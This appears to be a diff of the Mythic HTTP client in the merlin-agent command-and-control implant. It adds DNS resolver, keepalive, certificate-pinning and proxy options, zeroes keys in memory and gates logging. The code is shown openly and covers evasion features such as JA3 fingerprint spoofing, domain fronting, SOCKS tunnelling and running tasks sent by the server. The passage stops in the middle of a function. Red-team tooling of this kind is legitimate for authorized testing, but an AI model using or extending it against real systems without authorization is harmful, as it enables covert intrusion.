@@ -61,6 +61,7 @@ import (
 	"github.com/Ne0nd0g/merlin-agent/cli"
 	"github.com/Ne0nd0g/merlin-agent/clients"
 	"github.com/Ne0nd0g/merlin-agent/clients/utls"
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
 )
 
 // Files is global map used to track Mythic's multistep file transfers. It holds data between requests
@@ -82,13 +83,14 @@ type Client struct {
 	URL        string            // URL to send messages to (e.g., https://127.0.0.1:443/test.php)
 	Host       string            // HTTP Host header value
 	Proxy      string            // Proxy string
+	Resolver   string            // Resolver is the DNS server used to resolve the C2 hostname, empty for the system resolver
 	Headers    map[string]string // Additional HTTP headers to add to the request
 	UserAgent  string            // HTTP User-Agent value
 	PaddingMax int               // PaddingMax is the maximum size allowed for a randomly selected message padding length
 	JA3        string            // JA3 is a string that represent how the TLS client should be configured, if applicable
 	Parrot     string            // Parrot is a feature of the github.com/refraction-networking/utls to mimic a specific browser
-	psk        []byte            // PSK is the Pre-Shared Key secret the agent will use to start encrypted key exchange
-	secret     []byte            // Secret is the current key that is being used to encrypt & decrypt data
+	psk        *secure.Buffer    // PSK is the Pre-Shared Key secret the agent will use to start encrypted key exchange
+	secret     *secure.Buffer    // Secret is the current key that is being used to encrypt & decrypt data
 	privKey    *rsa.PrivateKey   // Agent's RSA Private key to decrypt traffic
 }
 
@@ -100,6 +102,9 @@ type Config struct {
 	Host      string    // Host is used with the HTTP Host header for Domain Fronting activities
 	URL       string    // URL is the protocol, domain, and page that the agent will communicate with (e.g., https://google.com/test.aspx)
 	Proxy     string    // Proxy is the URL of the proxy that all traffic needs to go through, if applicable
+	Resolver  string    // Resolver is the DNS server or DNS over HTTPS URL used to resolve the C2 hostname instead of the system resolver
+	KeepAlive string    // KeepAlive is how often a persistent HTTP/2 connection is pinged to keep it open (e.g., 30s)
+	Idle      string    // Idle is how long a persistent connection can go unused before it is closed, 0 keeps it open
 	UserAgent string    // UserAgent is the HTTP User-Agent header string that Agent will use while sending traffic
 	PSK       string    // PSK is the Pre-Shared Key secret the agent will use to start authentication
 	JA3       string    // JA3 is a string that represent how the TLS client should be configured, if applicable
@@ -109,8 +114,10 @@ type Config struct {
 
 // New instantiates and returns a Client that is constructed from the passed in Config
 func New(config Config) (*Client, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.New()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Config: %+v", config))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.New()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Config: %+v", config))
+	}
 	client := Client{
 		AgentID:   config.AgentID,
 		URL:       config.URL,
@@ -118,17 +125,36 @@ func New(config Config) (*Client, error) {
 		Host:      config.Host,
 		Protocol:  config.Protocol,
 		Proxy:     config.Proxy,
+		Resolver:  config.Resolver,
 		JA3:       config.JA3,
 		Parrot:    config.Parrot,
 	}
 
-	// Mythic: Add payload ID
+	// Literal IPv6 addresses must be enclosed in brackets
 	var err error
+	client.URL, err = clients.ParseURL(client.URL)
+	if err != nil {
+		return &client, err
+	}
+
+	// Mythic: Add payload ID
 	client.MythicID, err = uuid.FromString(config.PayloadID)
 	if err != nil {
 		return &client, err
 	}
 
+	// Resolve the C2 hostname with a specific DNS server
+	err = clients.SetResolver(client.Resolver)
+	if err != nil {
+		return &client, err
+	}
+
+	// Keep the connection open between check ins instead of a new TLS handshake each time
+	err = clients.SetKeepAlive(config.KeepAlive, config.Idle)
+	if err != nil {
+		return &client, err
+	}
+
 	// Get the HTTP client
 	client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, client.Parrot)
 	if err != nil {
@@ -136,11 +162,12 @@ func New(config Config) (*Client, error) {
 	}
 
 	// Set PSK
-	client.psk, err = base64.StdEncoding.DecodeString(config.PSK)
+	psk, err := base64.StdEncoding.DecodeString(config.PSK)
 	if err != nil {
 		return &client, fmt.Errorf("there was an error Base64 decoding the PSK:\r\n%s", err)
 	}
-	client.secret = client.psk
+	client.psk = secure.NewBuffer(psk)
+	client.setSecret(append([]byte{}, client.psk.Bytes()...))
 
 	// Generate RSA key pair
 	client.privKey, err = rsa.GenerateKey(rand.Reader, 4096)
@@ -151,26 +178,35 @@ func New(config Config) (*Client, error) {
 	// Parse Padding Value
 	client.PaddingMax, err = strconv.Atoi(config.Padding)
 	if err != nil {
-		cli.Message(cli.WARN, fmt.Sprintf("there was an error converting Padding string \"%s\" to an integer: %s", config.Padding, err))
+		if cli.Enabled {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error converting Padding string \"%s\" to an integer: %s", config.Padding, err))
+		}
 	}
 
-	cli.Message(cli.INFO, "Client information:")
-	cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", client.Protocol))
-	cli.Message(cli.INFO, fmt.Sprintf("\tURL: %s", client.URL))
-	cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent: %s", client.UserAgent))
-	cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Host Header: %s", client.Host))
-	cli.Message(cli.INFO, fmt.Sprintf("\tProxy: %s", client.Proxy))
-	cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding Max: %d", client.PaddingMax))
-	cli.Message(cli.INFO, fmt.Sprintf("\tJA3 String: %s", client.JA3))
-	cli.Message(cli.INFO, fmt.Sprintf("\tParrot String: %s", client.Parrot))
+	if cli.Enabled {
+		cli.Message(cli.INFO, "Client information:")
+		cli.Message(cli.INFO, fmt.Sprintf("\tProtocol: %s", client.Protocol))
+		cli.Message(cli.INFO, fmt.Sprintf("\tURL: %s", client.URL))
+		cli.Message(cli.INFO, fmt.Sprintf("\tUser-Agent: %s", client.UserAgent))
+		cli.Message(cli.INFO, fmt.Sprintf("\tHTTP Host Header: %s", client.Host))
+		cli.Message(cli.INFO, fmt.Sprintf("\tProxy: %s", client.Proxy))
+		cli.Message(cli.INFO, fmt.Sprintf("\tDNS Resolver: %s", client.Resolver))
+		keepAlive, idle := clients.KeepAlive()
+		cli.Message(cli.INFO, fmt.Sprintf("\tKeepAlive: %s, Idle Timeout: %s", keepAlive, idle))
+		cli.Message(cli.INFO, fmt.Sprintf("\tPayload Padding Max: %d", client.PaddingMax))
+		cli.Message(cli.INFO, fmt.Sprintf("\tJA3 String: %s", client.JA3))
+		cli.Message(cli.INFO, fmt.Sprintf("\tParrot String: %s", client.Parrot))
+	}
 
 	return &client, nil
 }
 
 // Auth is used to match the merlin client interface but isn't currently used; Should probably fix the interface definition
 func (client *Client) Auth(authType string, register bool) (messages.Base, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.Auth()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Input authType: %s, register: %v", authType, register))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.Auth()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Input authType: %s, register: %v", authType, register))
+	}
 	return messages.Base{}, nil
 }
 
@@ -178,14 +214,18 @@ func (client *Client) Auth(authType string, register bool) (messages.Base, error
 // The function also decodes and decrypts response messages and return a Merlin message structure.
 // This is where the client's logic is for communicating with the server.
 func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.Send()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("input message base:\r\n%+v", m))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.Send()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("input message base:\r\n%+v", m))
+	}
 
 	// Set the message padding
 	if client.PaddingMax > 0 {
 		m.Padding = core.RandStringBytesMaskImprSrc(rand2.Intn(client.PaddingMax))
 	}
-	cli.Message(cli.DEBUG, fmt.Sprintf("Added message padding size: %d", len(m.Padding)))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Added message padding size: %d", len(m.Padding)))
+	}
 
 	payload, err := client.convertToMythicMessage(m)
 	if err != nil {
@@ -209,15 +249,20 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 	}
 
 	// Send the request
-	cli.Message(cli.DEBUG, fmt.Sprintf("Sending POST request size: %d to: %s", req.ContentLength, client.URL))
-	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request:\r\n%+v", req))
-	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request Payload:\r\n%+v", req.Body))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Sending POST request size: %d to: %s", req.ContentLength, client.URL))
+		cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request:\r\n%+v", req))
+		cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Request Payload:\r\n%+v", req.Body))
+	}
 	resp, err := client.Client.Do(req)
 	if err != nil {
 		err = fmt.Errorf("there was an error sending a message to the server:\r\n%s", err)
 		return
 	}
-	cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Response:\r\n%+v", resp))
+	clients.ResetIdle(client.Client)
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("HTTP Response:\r\n%+v", resp))
+	}
 	// Process the response
 
 	// Check the status code
@@ -258,14 +303,20 @@ func (client *Client) Send(m messages.Base) (returnMessages []messages.Base, err
 		err = fmt.Errorf("there was an error decrypting the payload:\r\n%s", err)
 		return
 	}
+	// The decrypted JSON is no longer needed after it is converted
+	defer secure.Zero(plaintext)
 
-	cli.Message(cli.DEBUG, fmt.Sprintf("Decrypted JSON:\r\n%s", plaintext))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Decrypted JSON:\r\n%s", plaintext))
+	}
 	return client.convertToMerlinMessage(plaintext)
 }
 
 // Initial executes the specific steps required to establish a connection with the C2 server and checkin or register an agent
 func (client *Client) Initial(agent messages.AgentInfo) (messages.Base, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.Initial()...")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.Initial()...")
+	}
 
 	// Build initial checkin message
 	checkIn := CheckIn{
@@ -321,28 +372,46 @@ func (client *Client) Initial(agent messages.AgentInfo) (messages.Base, error) {
 
 // Set is a generic function that is used to modify a Client's field values
 func (client *Client) Set(key string, value string) error {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.Set()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s, Value: %s", key, value))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.Set()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s, Value: %s", key, value))
+	}
 	var err error
 	switch strings.ToLower(key) {
 	case "ja3":
 		ja3String := strings.Trim(value, "\"'")
 		client.Client, err = getClient(client.Protocol, client.Proxy, ja3String, client.Parrot)
 		if ja3String != "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Set agent JA3 signature to:%s", ja3String))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Set agent JA3 signature to:%s", ja3String))
+			}
 		} else if ja3String == "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			}
 		}
 		client.JA3 = ja3String
 	case "parrot":
 		parrot := strings.Trim(value, "\"'")
 		client.Client, err = getClient(client.Protocol, client.Proxy, client.JA3, parrot)
 		if parrot != "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Set agent HTTP transport parrot to:%s", parrot))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Set agent HTTP transport parrot to:%s", parrot))
+			}
 		} else if parrot == "" {
-			cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			if cli.Enabled {
+				cli.Message(cli.NOTE, fmt.Sprintf("Setting agent client back to default using %s protocol", client.Protocol))
+			}
 		}
 		client.Parrot = parrot
+	case "proxy":
+		// An empty proxy detects the host's proxy configuration and direct ignores it
+		proxy := strings.Trim(value, "\"'")
+		var c *http.Client
+		if c, err = getClient(client.Protocol, proxy, client.JA3, client.Parrot); err == nil {
+			client.Client, client.Proxy = c, proxy
+			clients.ResetProxy()
+		}
 	default:
 		err = fmt.Errorf("unknown mythic client setting: %s", key)
 	}
@@ -351,8 +420,10 @@ func (client *Client) Set(key string, value string) error {
 
 // Get is a generic function that is used to retrieve the value of a Client's field
 func (client *Client) Get(key string) string {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.Get()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s", key))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.Get()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Key: %s", key))
+	}
 	switch strings.ToLower(key) {
 	case "ja3":
 		return client.JA3
@@ -362,6 +433,10 @@ func (client *Client) Get(key string) string {
 		return client.Parrot
 	case "protocol":
 		return client.Protocol
+	case "proxy":
+		return client.Proxy
+	case "url":
+		return client.URL
 	default:
 		return fmt.Sprintf("unknown mythic client configuration setting: %s", key)
 	}
@@ -369,8 +444,10 @@ func (client *Client) Get(key string) string {
 
 // getClient returns an HTTP client for the passed protocol, proxy, and ja3 string
 func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.getClient()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Protocol: %s, Proxy: %s, JA3 String: %s, Parrot: %s", protocol, proxyURL, ja3, parrot))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.getClient()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Protocol: %s, Proxy: %s, JA3 String: %s, Parrot: %s", protocol, proxyURL, ja3, parrot))
+	}
 	/* #nosec G402 */
 	// G402: TLS InsecureSkipVerify set true. (Confidence: HIGH, Severity: HIGH) Allowed for testing
 	// Setup TLS configuration
@@ -381,19 +458,24 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 			tls.TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
 			tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA,
 		},
+		// Abort the handshake if the server's certificate does not match a configured pin
+		VerifyPeerCertificate: clients.VerifyPins,
 	}
 
 	// Proxy
 	var proxy func(*http.Request) (*url.URL, error)
-	if proxyURL != "" {
+	switch strings.ToLower(proxyURL) {
+	case "":
+		// Detect the proxy from the HTTP_PROXY, HTTPS_PROXY, and NO_PROXY environment variables or the host's configuration
+		proxy = clients.Proxy
+	case "direct":
+		// Connect directly even if the host is configured to use a proxy
+	default:
 		rawURL, errProxy := url.Parse(proxyURL)
 		if errProxy != nil {
 			return nil, fmt.Errorf("there was an error parsing the proxy string:\r\n%s", errProxy.Error())
 		}
 		proxy = http.ProxyURL(rawURL)
-	} else {
-		// Check for, and use, HTTP_PROXY, HTTPS_PROXY and NO_PROXY environment variables
-		proxy = http.ProxyFromEnvironment
 	}
 
 	// JA3
@@ -404,11 +486,9 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 		}
 
 		// Set proxy
-		if proxyURL != "" {
-			transport.Proxy(proxy)
-		}
+		transport.Proxy(proxy)
 
-		return &http.Client{Transport: transport}, nil
+		return &http.Client{Transport: clients.CountTraffic(transport)}, nil
 	}
 
 	// Parrot - If a JA3 string was set, it will be used and the parroting will be ignored
@@ -420,26 +500,33 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 		}
 
 		// Set proxy
-		if proxyURL != "" {
-			transport.Proxy(proxy)
-		}
+		transport.Proxy(proxy)
 
-		return &http.Client{Transport: transport}, nil
+		return &http.Client{Transport: clients.CountTraffic(transport)}, nil
 	}
 
+	// Persistent connections are pinged to keep them open between check ins
+	keepAlive, _ := clients.KeepAlive()
+
 	var transport http.RoundTripper
 	switch strings.ToLower(protocol) {
 	case "h2":
 		TLSConfig.NextProtos = []string{"h2"} // https://www.iana.org/assignments/tls-extensiontype-values/tls-extensiontype-values.xhtml#alpn-protocol-ids
 		transport = &http2.Transport{
 			TLSClientConfig: TLSConfig,
+			DialTLS: func(network, addr string, cfg *tls.Config) (net.Conn, error) {
+				return tls.DialWithDialer(clients.Dialer(), network, addr, cfg)
+			},
+			// ReadIdleTimeout sends an HTTP/2 PING frame when nothing has been received for the keepalive period
+			ReadIdleTimeout: keepAlive,
 		}
 	case "h2c":
 		transport = &http2.Transport{
 			AllowHTTP: true,
 			DialTLS: func(network, addr string, cfg *tls.Config) (net.Conn, error) {
-				return net.Dial(network, addr)
+				return clients.Dialer().Dial(network, addr)
 			},
+			ReadIdleTimeout: keepAlive,
 		}
 	case "https":
 		TLSConfig.NextProtos = []string{"http/1.1"} // https://www.iana.org/assignments/tls-extensiontype-values/tls-extensiontype-values.xhtml#alpn-protocol-ids
@@ -448,23 +535,27 @@ func getClient(protocol, proxyURL, ja3, parrot string) (*http.Client, error) {
 			MaxIdleConns:    10,
 			Proxy:           proxy,
 			IdleConnTimeout: 1 * time.Nanosecond,
+			DialContext:     clients.Dialer().DialContext,
 		}
 	case "http":
 		transport = &http.Transport{
 			MaxIdleConns:    10,
 			Proxy:           proxy,
 			IdleConnTimeout: 1 * time.Nanosecond,
+			DialContext:     clients.Dialer().DialContext,
 		}
 	default:
 		return nil, fmt.Errorf("%s is not a valid client protocol", protocol)
 	}
-	return &http.Client{Transport: transport}, nil
+	return &http.Client{Transport: clients.CountTraffic(transport)}, nil
 }
 
 // convertToMerlinMessage takes in a byte array that is unmarshalled from a JSON structure to Mythic structure and
 // then it is subsequently converted into a Merlin messages.Base structure
 func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []messages.Base, err error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.convertToMerlinMessage()...")
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.convertToMerlinMessage()...")
+	}
 	// Determine the action so we know what structure to unmarshal to
 	var action string
 	if bytes.Contains(data, []byte("\"action\":\"checkin\"")) {
@@ -488,7 +579,9 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 	}
 
 	// Logic for processing or converting Mythic messages
-	cli.Message(cli.DEBUG, fmt.Sprintf("Action: %s", action))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Action: %s", action))
+	}
 	switch action {
 	case CHECKIN:
 		var msg Response
@@ -499,7 +592,9 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 			return
 		}
 		if msg.Status == "success" {
-			cli.Message(cli.SUCCESS, "initial checkin successful")
+			if cli.Enabled {
+				cli.Message(cli.SUCCESS, "initial checkin successful")
+			}
 			client.MythicID = uuid.FromStringOrNil(msg.ID)
 			return
 		}
@@ -522,14 +617,18 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 		}
 		// Decrypt with RSA Private key and update the Client's secret key to use the session key
 		hash := sha1.New() // #nosec G401
-		client.secret, err = rsa.DecryptOAEP(hash, rand.Reader, client.privKey, key, nil)
+		var secret []byte
+		secret, err = rsa.DecryptOAEP(hash, rand.Reader, client.privKey, key, nil)
 		if err != nil {
 			err = fmt.Errorf("there was an error decrypting the returned RSA session key:\r\n%s", err)
 			return
 		}
+		client.setSecret(secret)
 		// Update to use new Temp UUID
 		client.MythicID = uuid.FromStringOrNil(msg.ID)
-		cli.Message(cli.SUCCESS, "RSA key exchange completed")
+		if cli.Enabled {
+			cli.Message(cli.SUCCESS, "RSA key exchange completed")
+		}
 		return
 	case TASKING:
 		var msg Tasks
@@ -541,7 +640,9 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 		}
 		// If there are any tasks/jobs, add them
 		if len(msg.Tasks) > 0 {
-			cli.Message(cli.DEBUG, fmt.Sprintf("returned Mythic tasks:\r\n%+v", msg))
+			if cli.Enabled {
+				cli.Message(cli.DEBUG, fmt.Sprintf("returned Mythic tasks:\r\n%+v", msg))
+			}
 			returnMessage, err = client.convertTasksToJobs(msg.Tasks)
 			if err != nil {
 				return
@@ -553,7 +654,9 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 			// There is SOCKS data to send to the SOCKS server
 			returnMessage, err = client.convertSocksToJobs(msg.SOCKS)
 			if err != nil {
-				cli.Message(cli.WARN, err.Error())
+				if cli.Enabled {
+					cli.Message(cli.WARN, err.Error())
+				}
 			}
 			if len(returnMessage.Payload.([]jobs.Job)) > 0 {
 				returnMessages = append(returnMessages, returnMessage)
@@ -567,13 +670,19 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 			err = fmt.Errorf("there was an error unmarshalling the JSON object to a mythic.ServerTaskResponse structure in the message handler:\r\n%s", err)
 			return
 		}
-		cli.Message(cli.NOTE, fmt.Sprintf("post_response results from the server: %+v", msg))
+		if cli.Enabled {
+			cli.Message(cli.NOTE, fmt.Sprintf("post_response results from the server: %+v", msg))
+		}
 		for _, response := range msg.Responses {
 			if response.Error != "" {
-				cli.Message(cli.WARN, fmt.Sprintf("There was an error sending a task to the Mythic server:\r\n%+v", response))
+				if cli.Enabled {
+					cli.Message(cli.WARN, fmt.Sprintf("There was an error sending a task to the Mythic server:\r\n%+v", response))
+				}
 			}
 			if response.FileID != "" {
-				cli.Message(cli.DEBUG, fmt.Sprintf("Mythic FileID: %s", response.FileID))
+				if cli.Enabled {
+					cli.Message(cli.DEBUG, fmt.Sprintf("Mythic FileID: %s", response.FileID))
+				}
 				if response.Status == "success" {
 					// Pull file data from map
 					if d, ok := Files[response.ID]; ok {
@@ -627,8 +736,10 @@ func (client *Client) convertToMerlinMessage(data []byte) (returnMessages []mess
 // convertToMythicMessages takes in Merlin message base, converts it into to a Mythic message JSON structure,
 // encrypts it, prepends the Mythic UUID, and Base64 encodes the entire string
 func (client *Client) convertToMythicMessage(m messages.Base) (string, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.convertToMythic()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Input Merlin message base:\r\n %+v", m))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.convertToMythic()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Input Merlin message base:\r\n %+v", m))
+	}
 
 	var err error
 	var data []byte
@@ -668,7 +779,9 @@ func (client *Client) convertToMythicMessage(m messages.Base) (string, error) {
 			var response ClientTaskResponse
 			response.ID = uuid.FromStringOrNil(job.ID)
 			response.Completed = true
-			cli.Message(cli.DEBUG, fmt.Sprintf("Converting Merlin job type: %d to Mythic response", job.Type))
+			if cli.Enabled {
+				cli.Message(cli.DEBUG, fmt.Sprintf("Converting Merlin job type: %d to Mythic response", job.Type))
+			}
 			switch job.Type {
 			case jobs.RESULT:
 				response.Output = job.Payload.(jobs.Results).Stdout
@@ -801,6 +914,8 @@ func (client *Client) convertToMythicMessage(m messages.Base) (string, error) {
 
 	// AES Encrypt payload
 	ciphertext, err := client.aesEncrypt(data)
+	// The plaintext JSON is no longer needed after it is encrypted
+	secure.Zero(data)
 	if err != nil {
 		return "", fmt.Errorf("there was an error AES encrypting the Mythic task:\r\n%s", err)
 	}
@@ -816,7 +931,9 @@ func (client *Client) convertToMythicMessage(m messages.Base) (string, error) {
 
 // convertSocksToJobs takes in Mythic socks messages and translates them into Merlin jobs
 func (client *Client) convertSocksToJobs(socks []Socks) (base messages.Base, err error) {
-	cli.Message(cli.DEBUG, fmt.Sprintf("Entering into clients.mythic.convertSocksToJobs() with %+v", socks))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("Entering into clients.mythic.convertSocksToJobs() with %+v", socks))
+	}
 
 	base.Version = 1
 	base.Type = messages.JOBS
@@ -864,8 +981,10 @@ func (client *Client) convertSocksToJobs(socks []Socks) (base messages.Base, err
 
 // convertTasksToJobs is a function that converts Mythic tasks into a Merlin jobs structure
 func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.convertTasksToJobs()")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Input task:\r\n%+v", tasks))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.convertTasksToJobs()")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Input task:\r\n%+v", tasks))
+	}
 
 	// Merlin messages.Base structure
 	base := messages.Base{
@@ -888,7 +1007,9 @@ func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
 		job.Token = uuid.FromStringOrNil(task.ID)
 		job.Type = mythicJob.Type
 
-		cli.Message(cli.DEBUG, fmt.Sprintf("Switching on mythic.Job type %d", mythicJob.Type))
+		if cli.Enabled {
+			cli.Message(cli.DEBUG, fmt.Sprintf("Switching on mythic.Job type %d", mythicJob.Type))
+		}
 
 		switch mythicJob.Type {
 		case jobs.CMD, jobs.CONTROL, jobs.NATIVE:
@@ -897,7 +1018,9 @@ func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
 			if err != nil {
 				return base, fmt.Errorf("there was an error unmarshalling the Mythic job payload to a jobs.CMD structure:\r\n%s", err)
 			}
-			cli.Message(cli.DEBUG, fmt.Sprintf("unmarshalled jobs.Command structure:\r\n%+v", payload))
+			if cli.Enabled {
+				cli.Message(cli.DEBUG, fmt.Sprintf("unmarshalled jobs.Command structure:\r\n%+v", payload))
+			}
 			job.Payload = payload
 			returnJobs = append(returnJobs, job)
 		case jobs.FILETRANSFER:
@@ -906,7 +1029,9 @@ func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
 			if err != nil {
 				return base, fmt.Errorf("there was an error unmarshalling the Mythic job payload to a jobs.FileTransfer structure:\r\n%s", err)
 			}
-			cli.Message(cli.DEBUG, fmt.Sprintf("unmarshalled jobs.FileTransfer structure:\r\n%+v", payload))
+			if cli.Enabled {
+				cli.Message(cli.DEBUG, fmt.Sprintf("unmarshalled jobs.FileTransfer structure:\r\n%+v", payload))
+			}
 			job.Payload = payload
 			returnJobs = append(returnJobs, job)
 		case jobs.MODULE:
@@ -935,7 +1060,9 @@ func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
 			// case 0 means that a job type was not added to the task from the Mythic server
 			// Commonly seen with SOCKS messages
 			if strings.ToLower(task.Command) == "socks" {
-				cli.Message(cli.NOTE, fmt.Sprintf("Received Mythic SOCKS task: %+v", task))
+				if cli.Enabled {
+					cli.Message(cli.NOTE, fmt.Sprintf("Received Mythic SOCKS task: %+v", task))
+				}
 				var params SocksParams
 				err = json.Unmarshal([]byte(task.Params), &params)
 				if err != nil {
@@ -949,10 +1076,14 @@ func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
 					job.Payload = jobs.Results{}
 					returnJobs = append(returnJobs, job)
 				default:
-					cli.Message(cli.WARN, fmt.Sprintf("Unknown socks command: %s", params.Action))
+					if cli.Enabled {
+						cli.Message(cli.WARN, fmt.Sprintf("Unknown socks command: %s", params.Action))
+					}
 				}
 			} else {
-				cli.Message(cli.WARN, fmt.Sprintf("Unhandled Mythic task %+v", task))
+				if cli.Enabled {
+					cli.Message(cli.WARN, fmt.Sprintf("Unhandled Mythic task %+v", task))
+				}
 			}
 		default:
 			return base, fmt.Errorf("unknown mythic.job type: %d", mythicJob.Type)
@@ -965,6 +1096,12 @@ func (client *Client) convertTasksToJobs(tasks []Task) (messages.Base, error) {
 	return base, nil
 }
 
+// setSecret replaces the key used to encrypt communications and zeroes the previous key
+func (client *Client) setSecret(key []byte) {
+	client.secret.Destroy()
+	client.secret = secure.NewBuffer(key)
+}
+
 // aesEncrypt reads in plaintext data as aa byte slice, encrypts it with the client's secret key, and returns the ciphertext
 func (client *Client) aesEncrypt(plaintext []byte) ([]byte, error) {
 	// Mythic AES256 Encryption Details
@@ -974,8 +1111,10 @@ func (client *Client) aesEncrypt(plaintext []byte) ([]byte, error) {
 	// Final message: IV + Ciphertext + HMAC
 	// where HMAC is SHA256 with the same AES key over (IV + Ciphertext)
 
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.aesEncrypt()...")
-	cli.Message(cli.DEBUG, fmt.Sprintf("Plaintext:\r\n%s", plaintext))
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, "Entering into clients.mythic.aesEncrypt()...")
+		cli.Message(cli.DEBUG, fmt.Sprintf("Plaintext:\r\n%s", plaintext))
+	}
 
 	// Pad plaintext
 	padding := aes.BlockSize - len(plaintext)%aes.BlockSize
@@ -986,7 +1125,7 @@ func (client *Client) aesEncrypt(plaintext []byte) ([]byte, error) {
 		return nil, fmt.Errorf("plaintext size: %d is not a multiple of the block size: %d", len(plaintext), aes.BlockSize)
 	}
 
-	block, err := aes.NewCipher(client.secret)
+	block, err := aes.NewCipher(client.secret.Bytes())
 	if err != nil {
 		return nil, err
 	}
@@ -1002,7 +1141,7 @@ func (client *Client) aesEncrypt(plaintext []byte) ([]byte, error) {
 	cbc.CryptBlocks(ciphertext[aes.BlockSize:], plaintext)
 
 	// HMAC
-	hash := hmac.New(sha256.New, client.secret)
+	hash := hmac.New(sha256.New, client.secret.Bytes())
 	_, err = hash.Write(ciphertext)
 	if err != nil {
 		return nil, fmt.Errorf("there was an error in the aesEncrypt function writing the HMAC:\r\n%s", err)
@@ -1014,11 +1153,13 @@ func (client *Client) aesEncrypt(plaintext []byte) ([]byte, error) {
 
 // aesDecrypt reads in ciphertext data as a byte slice, decrypts it with the client's secret key, and returns the plaintext
 func (client *Client) aesDecrypt(ciphertext []byte) ([]byte, error) {
-	cli.Message(cli.DEBUG, "Entering into clients.mythic.aesDecrypt()...")
+	if cli.Enabled {
